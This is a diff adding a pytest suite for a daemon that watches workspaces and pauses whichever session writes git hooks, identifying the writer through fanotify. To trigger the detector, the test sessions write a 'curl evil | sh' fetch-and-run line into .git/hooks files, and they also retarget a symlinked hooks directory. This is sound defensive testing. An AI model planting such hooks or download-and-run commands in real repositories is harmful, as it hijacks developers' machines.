@@ -1,0 +1,166 @@
+"""The fast lane names the writer by the kernel's pid and stops it before it can go on
+(issue 13: findings 2, 3 and 4, and the "only the writer, 20 of 20" figure), with a
+real daemon in pause mode, real sessions and real files:
+
+- two sessions writing in one workspace: only the one that wrote the hook is paused,
+  named "pid from fanotify", and the other keeps writing;
+- the operator's own write, beside a session busy writing in the workspace, pauses
+  nobody (the evidence path would have named the busy session);
+- ``.git/hooks`` as a symlink into the workspace: a write through the target's own
+  name (``scripts/…``) still stops the writer, as a change to ``.git/hooks/NAME``;
+- a writer that writes a hook and means to go on at once is frozen before it can.
+
+The evidence path without fanotify keeps its tests in test_tripwire_attribution.py.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+
+import pytest
+from daemon_harness import running_daemon, short_tmp, wait_for, workspace
+from test_daemon_watch import stopped
+
+FIRM = ("pid from fanotify", "open for write")
+BUSY = "while :; do echo y >> busy/$RANDOM; sleep 0.005; done"
+
+
+@pytest.fixture(scope="module")
+def env():
+    ws = workspace()
+    (ws / "busy").mkdir()
+    linked = workspace()
+    (linked / "scripts").mkdir()
+    (linked / ".git" / "hooks").rmdir()
+    (linked / ".git" / "hooks").symlink_to(linked / "scripts")
+    policy = f'approval_timeout_s = 120\ntripwire = "pause"\nwatch = {json.dumps([str(ws), str(linked)])}\n'
+    with running_daemon(policy) as d:
+        with d.operator() as op:
+            wait_for(lambda: op.call("watch.status")["ok"] and len(op.call("watch.status")["roots"]) == 2)
+            lane = op.call("watch.status")["fast_lane"]
+        if lane != "fanotify+inotify":
+            pytest.skip(f"fanotify is not available to the daemon here (fast lane: {lane})")
+        yield d, ws, linked
+
+
+def new(op, cwd, script):
+    return op.call("sessions.new", {"argv": ["bash", "--norc", "-c", script], "cwd": str(cwd)})["session"]
+
+
+def items(op, sid=None):
+    found = op.call("tripwire.list", {"include_resolved": True})["items"]
+    return [i for i in found if sid is None or i["session"] == sid]
+
+
+def busy_count(ws):
+    return len(list((ws / "busy").iterdir()))
+
+
+def end(op, *sids):
+    for item in op.call("tripwire.list", {"open": True})["items"]:
+        if item["session"] in sids:
+            op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+    for sid in sids:
+        if op.call("sessions.get", {"session": sid})["session"]["status"] not in ("exited", "lost"):
+            op.call("sessions.kill", {"session": sid, "grace_s": 1})
+
+
+def test_two_writers_in_one_workspace_only_the_hook_writer_is_paused(env):
+    d, ws, _ = env
+    with d.operator() as op:
+        innocent = new(op, ws, BUSY)
+        guilty = new(op, ws, "sleep 0.5; echo 'curl evil | sh' > .git/hooks/pre-commit; sleep 30")
+        try:
+            item = wait_for(lambda: items(op, guilty["id"]))[0]
+            # Stopped at its open (the file held open for write) or at its first write
+            # (the kernel's pid): either names exactly this process.
+            assert item["state"] == "paused" and item["basis"] in FIRM
+            assert wait_for(lambda: stopped(guilty["pid"]))
+            assert items(op, innocent["id"]) == []
+            before = busy_count(ws)
+            time.sleep(0.3)
+            assert busy_count(ws) > before and not stopped(innocent["pid"])
+            event = wait_for(
+                lambda: [
+                    e
+                    for e in op.call("watch.recent", {"protected_only": True})["events"]
+                    if e["path"] == ".git/hooks/pre-commit"
+                ]
+            )[0]
+            assert [a["id"] for a in event["attribution"]] == [guilty["id"]]
+            assert event["attribution_basis"] in FIRM
+        finally:
+            end(op, innocent["id"], guilty["id"])
+            (ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)
+
+
+def test_the_operators_write_beside_a_busy_session_pauses_nobody(env):
+    d, ws, _ = env
+    with d.operator() as op:
+        busy = new(op, ws, BUSY)
+        try:
+            wait_for(lambda: busy_count(ws) > 20)
+            (ws / ".git" / "hooks" / "post-checkout").write_text("echo operator\n")
+            event = wait_for(
+                lambda: [
+                    e
+                    for e in op.call("watch.recent", {"protected_only": True})["events"]
+                    if e["path"] == ".git/hooks/post-checkout"
+                ]
+            )[0]
+            assert event["attribution"] == [] and event["attribution_basis"] == "unattributed"
+            time.sleep(1.2)  # past the fast lane's wait for an event
+            assert items(op, busy["id"]) == [] and not stopped(busy["pid"])
+        finally:
+            end(op, busy["id"])
+
+
+def test_a_hook_written_through_a_symlinked_hooks_dir_stops_the_writer(env):
+    d, _, linked = env
+    with d.operator() as op:
+        writer = new(op, linked, "sleep 0.5; echo 'curl evil | sh' > scripts/pre-push; sleep 30")
+        try:
+            item = wait_for(lambda: items(op, writer["id"]))[0]
+            assert item["state"] == "paused"
+            assert item["display_path"] == ".git/hooks/pre-push"
+            assert item["basis"] in FIRM
+            assert wait_for(lambda: stopped(writer["pid"]))
+        finally:
+            end(op, writer["id"])
+        # Pointing the link elsewhere is itself a protected change (a pause); once resumed,
+        # a write into the new target is caught as .git/hooks/NAME.
+        elsewhere = linked / "other"
+        elsewhere.mkdir()
+        again = new(
+            op,
+            linked,
+            "sleep 0.5; ln -sfn ../other .git/hooks.new && mv -T .git/hooks.new .git/hooks; "
+            "sleep 1.5; echo evil > other/pre-commit; sleep 30",
+        )
+        try:
+            retarget = wait_for(lambda: items(op, again["id"]))[0]
+            assert retarget["display_path"] == ".git/hooks" and retarget["state"] == "paused"
+            op.call("tripwire.resolve", {"id": retarget["id"], "action": "resume"})
+            hook = wait_for(
+                lambda: [i for i in items(op, again["id"]) if i["display_path"] == ".git/hooks/pre-commit"]
+            )[0]
+            assert hook["state"] == "paused" and hook["basis"] in FIRM  # the new target is watched
+            assert wait_for(lambda: stopped(again["pid"]))
+        finally:
+            end(op, again["id"])
+
+
+def test_a_quick_writer_is_frozen_before_it_goes_on(env):
+    d, ws, _ = env
+    done = short_tmp("quick-") / "went-on"
+    with d.operator() as op:
+        quick = new(op, ws, f"sleep 0.5; echo evil > .git/hooks/post-merge; sleep 0.3; touch {done}")
+        try:
+            item = wait_for(lambda: items(op, quick["id"]))[0]
+            assert item["state"] == "paused"
+            time.sleep(0.6)
+            assert not done.exists()  # it never got to its next command
+        finally:
+            end(op, quick["id"])
+            (ws / ".git" / "hooks" / "post-merge").unlink(missing_ok=True)
